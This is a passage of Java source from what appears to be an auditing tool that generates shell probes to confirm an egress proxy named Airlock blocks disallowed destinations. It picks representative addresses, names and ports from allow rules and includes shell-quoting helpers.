    static Probe.Gate gateOfAuthority(String authority) {
        int colon = authority.lastIndexOf(':');
        return Probe.Gate.of(authority.substring(0, colon), Integer.parseInt(authority.substring(colon + 1)));
    }

    /** A raw request to the explicit proxy, so odd address forms reach it exactly as written (curl would normalise them). */
    private void proxied(String category, String id, String target, String method, String requestTarget, String authority,
            Optional<LocalTarget.Tcp> control) {
        add(category, id, target, Expect.BLOCKED, "Airlock's proxy denies it; the target never answers",
                "proxied " + c.hostAddress() + " " + c.proxyPort() + " " + method + " " + quote(requestTarget) + " " + quote(authority),
                control.map(LocalTarget.class::cast), gateOfAuthority(authority));
    }

    private void add(String category, String id, String target, Expect expect, String expected, String body, Optional<LocalTarget> control) {
        add(category, id, target, expect, expected, body, control, new Probe.NoWitness());
    }

    private void add(String category, String id, String target, Expect expect, String expected, String body, Optional<LocalTarget> control,
            Probe.Witness witness) {
        if (!CATEGORIES.contains(category)) {
            throw new IllegalArgumentException("unknown category " + category);
        }
        probes.putIfAbsent(id, new Probe(id, category, target, expect, expected, ". /workspace/lib.sh\n" + body + "\n", control, witness));
    }

    /** Concrete names for a rule: itself when exact; for a wildcard, the known names under it, or one made-up name. */
    private List<String> concreteNames(NamePattern p) {
        if (p instanceof NamePattern.Exact) {
            return List.of(p.toString());
        }
        List<String> known = c.knownNames().stream().filter(p::matches).limit(MAX_ADDRESSES_PER_NAME).toList();
        if (!known.isEmpty()) {
            return known;
        }
        return List.of("airlock-audit." + p.toString().substring(2));
    }

    private List<String> concreteTargets(Rule r) {
        return switch (r.destination()) {
            case Destination.Names n -> concreteNames(n.pattern());
            case Destination.Addresses a -> representatives(a.cidr());
        };
    }

    /**
     * An exact allowed name for {@code port} (any port when negative): the first that resolves here,
     * else the first. A probe through a name that does not resolve is stopped by DNS before the check
     * it is about, and can only be inconclusive.
     */
    private Optional<String> firstAllowedName(int port) {
        List<String> names = new ArrayList<>();
        for (Rule r : c.allow()) {
            if (r.destination() instanceof Destination.Names n && n.pattern() instanceof NamePattern.Exact
                    && (port < 0 || r.ports().contains(port))) {
                names.add(n.pattern().toString());
            }
        }
        return names.stream().filter(n -> !c.resolve().apply(n).isEmpty()).findFirst().or(() -> names.stream().findFirst());
    }

    /** The first usable and last usable address of a range (one address for a /32 or /128; both for a /31). */
    static List<String> representatives(Cidr cidr) {
        IpAddress net = cidr.network();
        int bits = net.family().bits;
        int host = bits - cidr.prefixLength();
        Set<String> out = new LinkedHashSet<>();
        if (net.isV4()) {
            long base = net.v4Bits() & 0xffffffffL;
            long size = 1L << host;
            long first = host >= 2 ? base + 1 : base;
            long last = host >= 2 ? base + size - 2 : base + size - 1;
            out.add(IpAddress.ipv4((int) first).toString());
            out.add(IpAddress.ipv4((int) last).toString());
        } else {
            long hi = net.hi();
            long lo = net.lo();
            out.add(IpAddress.ipv6(hi, host == 0 ? lo : lo + 1).toString());
            long lastLo = host >= 64 ? -1L : lo | ((1L << host) - 1);
            long lastHi = host > 64 ? hi | ((1L << (host - 64)) - 1) : hi;
            out.add(IpAddress.ipv6(lastHi, lastLo).toString());
        }
        return List.copyOf(out);
    }

    private static List<Integer> ports(Rule r, List<Integer> fallback) {
        if (r.ports().isAny()) {
            return fallback;
        }
        List<Integer> out = new ArrayList<>();
        for (int p : r.ports().ports()) {
            out.add(p);
        }
        return out.stream().limit(3).toList();
    }

    private static int firstPort(Rule r, int fallback) {
        return r.ports().isAny() ? fallback : r.ports().ports()[0];
    }

    static String kindFor(int port) {
        return switch (port) {
            case 9418 -> "git";
            case 22, 21, 25, 587 -> "none";
            default -> "http";
        };
    }

    private static String url(String host) {
        return host.contains(":") ? "[" + host + "]" : host;
    }

    static String quote(String s) {
        return "'" + s.replace("'", "'\\''") + "'";
    }

    /** printf escapes for arbitrary bytes (Latin-1 code points). */
    static String hexEscape(String s) {
        StringBuilder b = new StringBuilder();
        for (char ch : s.toCharArray()) {
            b.append(String.format("\\x%02x", (int) ch & 0xff));
        }
        return b.toString();
    }
}
